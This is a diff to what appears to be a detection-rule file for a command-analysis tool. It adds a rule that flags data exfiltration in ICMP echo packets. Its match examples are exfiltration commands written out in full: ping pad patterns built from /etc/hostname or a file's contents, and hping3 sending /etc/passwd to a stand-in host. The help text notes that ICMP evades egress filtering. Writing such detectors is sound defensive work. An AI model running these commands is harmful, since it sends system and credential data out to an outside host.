@@ -575,4 +575,18 @@ export const EXFIL_RULES: Rule[] = [
     },
     match: { command: (c) => effectsOf(c).sends.some((s) => s.channel === 'dns') },
   },
+  {
+    id: 'icmp-exfil',
+    name: 'Data sent in ICMP packets',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048.003',
+    description: 'ping -p with a pad pattern built from command output or a variable, or hping3 -E/--file F: the echo requests themselves carry the data to the host.',
+    help: 'ICMP passes many egress filters and is seldom logged; every packet delivers a piece of the data. Check what the pattern or file holds.',
+    examples: {
+      match: ['ping -c 1 -p $(xxd -p -l 16 /etc/hostname) 203.0.113.9', 'for c in $(xxd -p -c 16 s.txt); do ping -c1 -p $c 203.0.113.9; done', 'hping3 -1 -E /etc/passwd -d 1200 203.0.113.9'],
+      not_match: ['ping -c 3 example.com', 'ping -p ff00 -c 1 10.0.0.1', 'hping3 -S -p 80 -c 1 10.0.0.1'],
+    },
+    match: { command: (c) => effectsOf(c).sends.some((s) => s.channel === 'icmp') },
+  },
 ];
